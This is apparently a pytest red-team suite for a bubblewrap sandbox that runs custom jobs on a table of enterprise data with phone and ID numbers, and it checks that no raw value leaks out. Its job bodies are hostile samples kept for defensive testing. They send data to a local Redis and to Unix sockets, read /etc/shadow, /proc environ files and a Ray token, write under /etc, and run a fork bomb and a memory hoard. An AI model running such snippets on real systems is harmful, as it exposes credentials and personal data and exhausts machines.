"""Red team: custom-code jobs that try to get out or get data out. Each must be contained and leak nothing.

Every job runs in a real bubblewrap sandbox over a table with identifier and sensitive
columns; whatever the job does, no raw value of those columns may appear in what the
runner hands back (reason, verdict, released table).
"""

from __future__ import annotations

import dataclasses
import os
import pathlib
import socket
import textwrap
import threading
import time

import pyarrow as pa
import pyarrow.parquet as pq
import pytest
import redis

from shuniu.nodes.sandbox import EgressPolicy, SandboxLimits, SandboxRunner, SandboxStatus, custom_job
from shuniu.nodes.sandbox import sandbox_available, sandbox_pids, wait_sandboxes_gone

pytestmark = pytest.mark.skipif(not sandbox_available(), reason="bubblewrap cannot run here")

LABEL_PREFIX = f"shuniu-sandbox-{os.getpid()}-"
# A wall clock for what leaves, not for time: it counts a cold start, which a loaded machine stretches.
LIMITS = SandboxLimits(cpu_s=5, nproc=32, wall_timeout_s=30.0)
POLICY = EgressPolicy(min_group_rows=5, max_rows=1000)
SENSITIVE = ["legal_person_phone", "id_number", "amount_fen"]
IDENTIFIERS = ["enterprise_id"]
N = 200


def _input() -> pa.Table:
    cities = ["Zhengzhou", "Luoyang", "Kaifeng", "Anyang"]
    return pa.table({
        "enterprise_id": [f"EID{i:08d}" for i in range(N)],
        "city": ["Jiyuan" if i == 0 else cities[i % 4] for i in range(N)],  # Jiyuan: a group of one
        "kwh": [float(1000 + 7 * i) + 0.25 for i in range(N)],
        "legal_person_phone": [f"1380000{i:04d}" for i in range(N)],
        "id_number": [410102198001010000 + 7919 * i for i in range(N)],  # 18 digits: not exact as float64
        # Irregular nine-digit amounts, as real ones are (short ones would match digits in any text).
        "amount_fen": [100_000_000 + (i * 7_654_321 + i * i * 1_234) % 899_999_999 for i in range(N)],
    })  # fmt: skip


TABLE = _input()
RAW_VALUES = [str(v) for name in SENSITIVE + IDENTIFIERS for v in TABLE.column(name).to_pylist()]


@pytest.fixture(autouse=True)
def runner():
    """The runner most attacks use; after every test, no process of any of its sandboxes may be left."""
    yield SandboxRunner(LIMITS)
    survivors = wait_sandboxes_gone(LABEL_PREFIX, timeout_s=2.0)
    assert survivors == [], f"sandbox processes outlived the test: {survivors}"


def _attack(runner: SandboxRunner, body: str, policy: EgressPolicy = POLICY):
    code = "import pyarrow as pa\n" + textwrap.dedent(body)
    outcome = runner.run(custom_job(code), TABLE, policy, sensitive_columns=SENSITIVE, identifier_columns=IDENTIFIERS)
    _assert_no_raw_value(outcome)
    return outcome


def _assert_no_raw_value(outcome) -> None:
    shown = [outcome.reason, _metrics_text(outcome.metrics)]
    if outcome.verdict is not None:
        shown.append(outcome.verdict.message)
    if outcome.table is not None:
        shown.append(repr(outcome.table.to_pylist()))
    text = "\n".join(shown)
    leaked = [v for v in RAW_VALUES if v in text]
    assert not leaked, f"raw values left the sandbox: {leaked[:3]}"


def _metrics_text(metrics) -> str:
    """The metrics with measured times to the microsecond: cpu_s=0.13800000000000001 holds the
    digits of phone 13800000000 without leaking it, and a float's repr is not the job's doing."""
    fields = dataclasses.asdict(metrics)
    return repr({k: f"{v:.6f}" if isinstance(v, float) else v for k, v in fields.items()})


def _seen(outcome) -> str:
    assert outcome.status is SandboxStatus.OK, outcome.reason
    return outcome.table.column("seen")[0].as_py()


def test_tcp_to_the_local_redis_fails(runner, redis_server):
    watcher = redis.Redis(port=redis_server.port, single_connection_client=True)
    before = watcher.info("stats")["total_connections_received"]
    outcome = _attack(runner, f"""
        def run(table):
            try:
                import socket
                with socket.create_connection(("127.0.0.1", {redis_server.port}), timeout=1) as conn:
                    conn.sendall(b"SET stolen " + str(table.column("id_number")[0]).encode() + b"\\r\\n")
                return pa.table({{"seen": ["connected"]}})
            except Exception as exc:  # OSError; or ImportError, LookupError where the runtime lacks a module
                return pa.table({{"seen": [type(exc).__name__]}})
    """)
    assert _seen(outcome) != "connected"
    assert watcher.info("stats")["total_connections_received"] == before  # nothing reached Redis
    assert watcher.get("stolen") is None
    watcher.close()


def test_unix_sockets_on_the_host_are_unreachable(runner, tmp_path):
    path = str(tmp_path / "host.sock")
    abstract = f"\0shuniu-redteam-{os.getpid()}"
    listeners = []
    for address in (path, abstract):
        listener = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        listener.bind(address)
        listener.listen(1)
        listener.setblocking(False)
        listeners.append(listener)
    try:
        outcome = _attack(runner, f"""
            import socket
            def run(table):
                results = []
                for address in ({path!r}, {abstract!r}):
                    try:
                        with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as conn:
                            conn.connect(address)
                            conn.sendall(str(table.to_pylist()).encode())
                        results.append("connected")
                    except OSError as exc:
                        results.append(type(exc).__name__)
                return pa.table({{"seen": [",".join(results)]}})
        """)
        assert "connected" not in _seen(outcome)
        for listener in listeners:
            with pytest.raises(BlockingIOError):
                listener.accept()  # no connection ever arrived
    finally:
        for listener in listeners:
            listener.close()


def test_data_files_state_dir_and_home_are_invisible(runner, tmp_path, monkeypatch):
    data_file = tmp_path / "electricity.parquet"
    pq.write_table(TABLE, data_file)
    state_dir = tmp_path / ".shuniu"
    state_dir.mkdir()
    (state_dir / "keys.json").write_text('{"node_key": "state-secret-7f3a"}')
    monkeypatch.setenv("SHUNIU_STATE_DIR", str(state_dir))
    paths = [str(data_file), str(state_dir / "keys.json"), str(pathlib.Path.cwd() / ".shuniu"),
             str(pathlib.Path.home() / ".ray"), "/tmp/ray/session_latest", "/work", "/etc/shadow"]  # fmt: skip
    outcome = _attack(runner, f"""
        import os
        def run(table):
            seen = []
            for path in {paths!r}:
                try:
                    if os.path.isdir(path):
                        seen.append(path + ":" + ",".join(os.listdir(path)))
                    else:
                        seen.append(path + ":" + open(path, "rb").read(64).hex())
                except OSError as exc:
                    seen.append(type(exc).__name__)
            return pa.table({{"seen": ["|".join(seen)]}})
    """)
    assert _seen(outcome) == "|".join(["FileNotFoundError"] * len(paths))


def test_environments_and_the_ray_token_are_unreadable(runner, monkeypatch):
    token_file = pathlib.Path.home() / f".ray-test-token-{os.getpid()}"
    token_file.write_text("ray-token-5b1e9c")
    monkeypatch.setenv("SHUNIU_REDTEAM_SECRET", "env-secret-29d4")
    try:
        outcome = _attack(runner, f"""
            import os
            def run(table):
                seen = [",".join(sorted(os.environ))]
                for path in ("/proc/1/environ", "/proc/self/environ", {str(token_file)!r},
                             os.path.expanduser("~/{token_file.name}")):
                    try:
                        seen.append(open(path, "rb").read().decode(errors="replace"))
                    except OSError as exc:
                        seen.append(type(exc).__name__)
                return pa.table({{"seen": ["|".join(seen)]}})
        """)
    finally:
        token_file.unlink()
    seen = _seen(outcome)
    assert "ray-token" not in seen and "env-secret" not in seen and "SHUNIU" not in seen
    names, pid1, own, *token_reads = seen.split("|")
    assert set(names.split(",")) <= {"PATH", "LANG", "HOME", "OPENBLAS_NUM_THREADS", "OMP_NUM_THREADS", "LC_CTYPE", "PWD"}
    assert token_reads == ["FileNotFoundError", "FileNotFoundError"]


def test_writes_outside_tmp_are_refused(runner):
    outcome = _attack(runner, """
        def run(table):
            results = []
            for path in ("/etc/evil", "/usr/evil", "/evil", "/opt/sandbox/site/evil", "/proc/sys/kernel/hostname", "/tmp/ok"):
                try:
                    with open(path, "w") as handle:
                        handle.write("x")
                    results.append("wrote")
                except OSError:
                    results.append("refused")
            return pa.table({"seen": [",".join(results)]})
    """)
    assert _seen(outcome) == "refused,refused,refused,refused,refused,wrote"


class _PeakProcesses:
    """Counts this test's sandbox processes on the host, as often as it can, while a job runs."""

    def __init__(self) -> None:
        self.peak = 0
        self.seen: set[int] = set()
        self._stop = threading.Event()
        self._thread = threading.Thread(target=self._watch, daemon=True)

    def _watch(self) -> None:
        while not self._stop.is_set():
            pids = sandbox_pids(LABEL_PREFIX)
            self.seen.update(pids)
            self.peak = max(self.peak, len(pids))
            time.sleep(0.005)

    def __enter__(self) -> _PeakProcesses:
        self._thread.start()
        return self

    def __exit__(self, *exc_info) -> None:
        self._stop.set()
        self._thread.join()


def test_fork_bomb_is_bounded_by_the_process_limit():
    limits = SandboxLimits(cpu_s=20, nproc=32, wall_timeout_s=3.0)
    with _PeakProcesses() as watch:
        outcome = _attack(SandboxRunner(limits), """
            import os, time
            def run(table):
                while True:  # every process forks for ever: exponential until the kernel says no
                    try:
                        os.fork()
                    except OSError:
                        time.sleep(0.001)
        """)
    assert outcome.status is SandboxStatus.TIMEOUT
    # The bomb really went off, and the kernel held it to nproc (+1 for bwrap outside the limit's uid).
    assert limits.nproc // 2 <= watch.peak <= limits.nproc + 1
    assert not any(pathlib.Path(f"/proc/{pid}").exists() for pid in watch.seen)


def test_allocating_past_the_memory_limit_is_killed():
    limits = SandboxLimits(memory_bytes=768 << 20, wall_timeout_s=8.0)
    outcome = _attack(SandboxRunner(limits), """
        def run(table):
            hoard = [bytearray(64 << 20) for _ in range(64)]
            return pa.table({"n": [len(hoard)]})
    """)
    assert outcome.status is SandboxStatus.KILLED and outcome.reason.startswith("memory_limit")
    # Not asserted: peak_memory_bytes < the limit. It is wait4's ru_maxrss, which Linux carries over from
    # the spawning process's memory across fork/exec, so late in a long test session (the runner's own
    # RSS past 768 MiB) it reports the runner's size, not the child's: a metering defect, left open.


@pytest.mark.parametrize("where", ["in-run", "in-a-forked-child"])
def test_endless_loop_is_killed_with_its_whole_process_group(where):
    # The wall clock counts from the request: a cold start on a loaded machine can take over a second.
    limits = SandboxLimits(cpu_s=60, wall_timeout_s=4.0)
    forked = where == "in-a-forked-child"
    with _PeakProcesses() as watch:
        started = time.monotonic()
        outcome = _attack(SandboxRunner(limits), f"""
            import os, time
            def run(table):
                if {forked} and os.fork() == 0:
                    while True:
                        pass
                time.sleep(60)
        """)
        elapsed_s = time.monotonic() - started
    assert outcome.status is SandboxStatus.TIMEOUT
    assert elapsed_s < limits.wall_timeout_s + 2.0
    assert watch.seen and not any(pathlib.Path(f"/proc/{pid}").exists() for pid in watch.seen)


def test_rows_printed_to_stdout_and_stderr_are_never_released(runner):
    outcome = _attack(runner, """
        import os, sys
        import pyarrow.compute as pc
        def run(table):
            rows = str(table.to_pylist()).encode()
            print(rows)
            print(rows, file=sys.stderr)
            os.write(1, rows)
            os.write(2, rows)
            return table.filter(pc.field("city") != "Jiyuan").group_by("city").aggregate([("kwh", "sum")])
    """)
    assert outcome.status is SandboxStatus.OK, outcome.reason
    assert "Zhengzhou" in outcome.table.column("city").to_pylist()


def test_raw_rows_written_straight_to_the_result_pipe_are_withheld(runner):
    outcome = _attack(runner, """
        import os
        import pyarrow.ipc as ipc
        def run(table):
            for fd in range(3, 32):  # find the runner's pipe, whichever descriptor it is
                try:
                    with ipc.new_stream(os.fdopen(os.dup(fd), "wb"), table.schema) as writer:
                        writer.write_table(table.drop_columns(["enterprise_id", "legal_person_phone"]))
                except OSError:
                    pass
            os._exit(0)
    """)
    assert outcome.status in (SandboxStatus.EGRESS_DENIED, SandboxStatus.ERROR)
    assert outcome.table is None


@pytest.mark.parametrize(
    ("body", "code"),
    [
        ("def run(t):\n    return t.select(['enterprise_id']).rename_columns(['company'])", "RAW_VALUE_LEAK"),
        ("def run(t):\n    return pa.table({'c': pc.utf8_lower(t.column('enterprise_id'))})", "RAW_VALUE_LEAK"),
        ("def run(t):\n    return pa.table({'score': t.column('id_number').cast(pa.float64(), safe=False)})", "RAW_VALUE_LEAK"),
        ("def run(t):\n    return pa.table({'score': t.column('legal_person_phone').cast(pa.int64()).cast(pa.float64())})", "RAW_VALUE_LEAK"),
        ("def run(t):\n    return pa.table({'v': pc.cast(t.column('id_number'), pa.string())})", "RAW_VALUE_LEAK"),
        ("def run(t):\n    g = t.group_by('city').aggregate([('kwh', 'sum')])\n    return g", "SMALL_GROUP"),
        ("def run(t):\n    g = t.group_by('city').aggregate([('kwh', 'sum')])\n"
         "    return g.rename_columns(['total', 'where']).append_column('__group_rows', pa.array([100] * len(g)))", "SMALL_GROUP"),
        ("def run(t):\n    return t.select(['id_number'])", "SENSITIVE_COLUMN"),
    ],
    ids=["identifier-renamed", "identifier-lower-cased", "id-number-cast-to-float", "phone-cast-to-float",
         "id-number-as-text", "group-of-one", "group-of-one-renamed-with-a-false-count", "sensitive-column"],
)  # fmt: skip
def test_unsafe_output_is_withheld(runner, body, code):
    outcome = _attack(runner, "import pyarrow.compute as pc\n" + body)
    assert outcome.status is SandboxStatus.EGRESS_DENIED
    assert outcome.verdict.code == code, outcome.reason
    assert outcome.table is None


def test_exception_text_with_raw_values_is_dropped(runner):
    outcome = _attack(runner, """
        def run(table):
            raise ValueError(str(table.column("id_number").to_pylist()))
    """)
    assert outcome.status is SandboxStatus.ERROR and outcome.reason.startswith("user_error")
